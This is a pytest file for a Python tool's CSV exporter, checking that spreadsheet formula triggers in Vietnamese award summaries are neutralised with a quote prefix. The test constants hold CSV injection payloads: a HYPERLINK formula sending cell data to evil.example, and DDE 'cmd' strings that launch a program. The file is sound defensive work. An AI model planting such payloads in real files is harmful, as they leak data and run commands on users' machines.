"""The export writers: CSV cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tomtat.cli import main
from tomtat.export import build_tables
from tomtat.export.text import spreadsheet_safe
from tomtat.export.writers import csv_text
from tomtat.schemas import ArticleSummary

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
HOSTILE_NAME = "+cmd|' /C calc'!A0"
HOSTILE_ISSUER = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_RECIPIENT = "-2+3+cmd|' /C calc'!A0"


def _hostile_summary() -> ArticleSummary:
    return ArticleSummary.model_validate(
        {
            "id": "hostile",
            "title": HOSTILE_TITLE,
            "event": {"organizer": "\tUBND huyện", "district": "\rĐức Trọng"},
            "people": [{"name": HOSTILE_NAME, "title": "Chủ tịch UBND huyện"}],
            "awards": [
                {
                    "type": "Giấy khen",
                    "issuer": HOSTILE_ISSUER,
                    "collectives": 12,
                    "individuals": 5,
                    "recipients": [HOSTILE_RECIPIENT],
                }
            ],
            "statistics": [{"label": "=1+1", "value": -3, "unit": "vụ"}],
        }
    )


def _read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12", "-12"),
        ("+3,5", "+3,5"),
        ("UBND = huyện", "UBND = huyện"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_spreadsheet_safe_prefixes_formula_triggers_only(cell: object, expected: object) -> None:
    assert spreadsheet_safe(cell) == expected


def test_hostile_title_name_issuer_and_recipient_are_inert_in_csv() -> None:
    tables = build_tables([_hostile_summary()], [])
    articles = _read_csv(csv_text("articles", tables["articles"]))
    people = _read_csv(csv_text("people", tables["people"]))
    awards = _read_csv(csv_text("awards", tables["awards"]))
    statistics = _read_csv(csv_text("statistics", tables["statistics"]))
    assert articles[0]["title"] == "'" + HOSTILE_TITLE
    assert people[0]["name"] == "'" + HOSTILE_NAME
    award = awards[0]
    assert award["issuer"] == "'" + HOSTILE_ISSUER
    assert award["recipients"] == "'" + HOSTILE_RECIPIENT
    assert award["organizer"] == "'\tUBND huyện"
    assert award["district"].startswith("'")
    # numbers stay numbers: no quote, no prefix
    assert (award["collectives"], award["individuals"]) == ("12", "5")
    assert statistics[0]["value"] == "-3" and statistics[0]["label"] == "'=1+1"
    every_cell = [
        v for table in (articles, people, awards, statistics) for r in table for v in r.values()
    ]
    assert not [v for v in every_cell if v and v[0] in "=+@\t\r"]


def test_export_command_writes_inert_csv_and_keeps_parquet_values(tmp_path: Path) -> None:
    summaries = tmp_path / "out"
    summaries.mkdir()
    (summaries / "hostile.json").write_text(
        json.dumps(_hostile_summary().to_json_dict(), ensure_ascii=False), encoding="utf-8"
    )
    assert main(["export", str(summaries), "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    awards = _read_csv((tmp_path / "csv" / "awards.csv").read_text(encoding="utf-8"))
    assert awards[0]["issuer"] == "'" + HOSTILE_ISSUER
    assert awards[0]["collectives"] == "12"
    # JSONL keeps the data exactly: it is for programs, not spreadsheets
    assert (
        main(["export", str(summaries), "--format", "jsonl", "--out", str(tmp_path / "s.jsonl")])
        == 0
    )
    line = json.loads((tmp_path / "s.jsonl").read_text(encoding="utf-8"))
    assert line["title"] == HOSTILE_TITLE
